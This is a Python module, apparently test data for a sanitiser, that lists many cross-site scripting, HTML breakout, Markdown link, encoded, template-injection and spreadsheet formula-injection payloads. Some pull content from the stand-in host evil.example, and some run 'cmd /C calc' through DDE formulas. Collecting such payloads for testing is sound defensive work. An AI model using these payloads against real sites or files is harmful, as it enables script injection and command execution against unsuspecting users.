"""Text by which somebody would run a script, reach another host or start a formula, in many shapes.

Each would set `window.__xss`, open a dialog, or ask evil.example for something.
"""

DO = "window.__xss=1"
ELSEWHERE = "https://evil.example"

TAGS = (
    f"<script>{DO}</script>",
    f"<ScRiPt>{DO}</sCrIpT>",
    f'<script src="{ELSEWHERE}/x.js"></script>',
    f"<script/x>{DO}</script/x>",
    f"<<script>{DO}//<</script>",
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"<img src=x onerror={DO}>",
    f"<img src=x onerror='{DO}'",
    f"<IMG SRC=/ ONERROR={DO}>",
    f"<svg/onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<body onload={DO}>",
    f"<video><source onerror={DO}></video>",
    f"<details open ontoggle={DO}>",
    f"<input autofocus onfocus={DO}>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<iframe src="javascript:parent.__xss=1"></iframe>',
    f'<object data="{ELSEWHERE}/x"></object><embed src="{ELSEWHERE}/y">',
    f'<math><a xlink:href="javascript:{DO}">x</a></math>',
    f'<form action="{ELSEWHERE}"><button autofocus>Go</button></form>',
    f'<base href="{ELSEWHERE}/">',
    f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    """<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">""",
    f'<img srcset="{ELSEWHERE}/1.png 1x, {ELSEWHERE}/2.png 2x">',
    f'<div style="background:url({ELSEWHERE}/x.png)">x</div>',
    f'<div style="width:expression({DO})">x</div>',
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<template><script>{DO}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={DO}>">',
)
HTMX = (
    f'<div hx-get="{ELSEWHERE}/x" hx-trigger="load">x</div>',
    '<div hx-post="/logout" hx-trigger="load">x</div>',
    f'<div hx-on:htmx:load="{DO}" hx-on::load="{DO}">x</div>',
    f"<div data-hx-get='/healthz' data-hx-trigger='load' hx-vals='js:{{x: {DO}}}'>x</div>",
)
BREAKOUTS = (
    f'"><script>{DO}</script>',
    f"'><script>{DO}</script>",
    f'" onmouseover="{DO}" autofocus onfocus="{DO}" x="',
    f"' onmouseover='{DO}' autofocus onfocus='{DO}' x='",
    f"` onmouseover=`{DO}`",
    f"</script><script>{DO}</script>",
    f"</textarea><script>{DO}</script>",
    f"</title><script>{DO}</script>",
    f"--><script>{DO}</script><!--",
    f"<!--><img src=x onerror={DO}>-->",
    f"]]><script>{DO}</script>",
    f'\\"}};{DO};//',
    f"\\';{DO};//",
    f"</option></select><img src=x onerror={DO}>",
)
MARKDOWN = (
    f"[x](javascript:{DO})",
    f"[x](JaVaScRiPt:{DO})",
    f"[x](&#106;avascript:{DO})",
    f"[x](java\tscript:{DO})",
    f"[x](data:text/html,<script>{DO}</script>)",
    f"[x](vbscript:{DO})",
    f"<javascript:{DO}>",
    f'[x](https://a.example "onmouseover={DO}")',
    f"![x]({ELSEWHERE}/pixel.png)",
    f"[x]: javascript:{DO}\n\n[x]",
)
DISGUISED = (
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;script&#62;{DO}&#60;/script&#62;",
    f"%3Cscript%3E{DO}%3C/script%3E",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
    f"＜script＞{DO}＜/script＞",
    f"<scr\u200bipt>{DO}</scr\u200bipt>",
    f"\u202e<script>{DO}</script>\u202c",
    f"<img src=x%00 onerror&#0;={DO}>",
    "{{7*7}} ${7*7} #{7*7} {% print(7*7) %}",
    "{{ config.SECRET_KEY }}{{ ''.__class__.__mro__ }}",
)
FORMULAS = (
    f'=HYPERLINK("{ELSEWHERE}","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
)
ALL = (*TAGS, *HTMX, *BREAKOUTS, *MARKDOWN, *DISGUISED, *FORMULAS)

# Several shapes in one, short enough for a name.
NAMES = tuple(
    f"{place} \"><img src=x onerror={DO}>' autofocus onfocus='{DO}' </script><script>{DO}</script>{{{{7*7}}}}"
    for place in ("Acc", "Sea", "Mar", "Pro", "Bro", "Pie")
)
